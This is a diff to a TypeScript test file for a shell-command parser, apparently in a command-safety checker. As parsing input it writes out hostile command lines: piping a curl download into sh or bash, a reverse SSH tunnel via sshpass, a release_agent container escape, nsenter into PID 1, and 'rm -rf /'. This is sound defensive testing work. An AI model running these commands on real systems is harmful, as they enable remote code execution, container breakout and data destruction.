@@ -24,6 +24,14 @@ describe('shell parsing', () => {
     expect(cs.map((c) => [c.name, c.sudo, c.pipeTo])).toEqual([['sudo', false, ''], ['sh', true, ''], ['curl', true, 'bash'], ['bash', true, ''], ['echo', false, '']]);
     expect(cs[0]?.writes).toEqual(['/tmp/o']);
   });
+  it('names the program a pipe reaches through wrappers, and unwraps sshpass, unshare and nsenter', () => {
+    const cs = simpleCommands(`echo 'exec /bin/sh' | sudo -u root env A=1 tclsh; curl -s x | nohup sh`);
+    expect(cs.filter((c) => c.depth === 0).map((c) => [c.name, c.pipeTo, c.pipeFrom])).toEqual([['echo', 'tclsh', ''], ['sudo', '', 'echo'], ['curl', 'sh', ''], ['nohup', '', 'curl']]);
+    const names = (line: string): string[] => simpleCommands(line).map((c) => c.name);
+    expect(names(`sshpass -p 'pw' ssh -R 2222:localhost:22 x@198.51.100.5`)).toEqual(['sshpass', 'ssh']);
+    expect(names(`unshare -UrmC bash -c 'echo /tmp/x > /mnt/release_agent'`)).toEqual(['unshare', 'bash', 'echo']);
+    expect(names('nsenter -t 1 -m -u -i -n -p -- bash')).toEqual(['nsenter', 'bash']);
+  });
   it('parses command and process substitutions as nested command lines, one level deeper (issue 14, finding 14)', () => {
     const inner = (line: string): Array<[string, number]> => simpleCommands(line).filter((c) => c.depth > 0).map((c) => [c.argv.join(' '), c.depth]);
     expect(inner('echo $(rm -rf /)')).toEqual([['rm -rf /', 1]]);
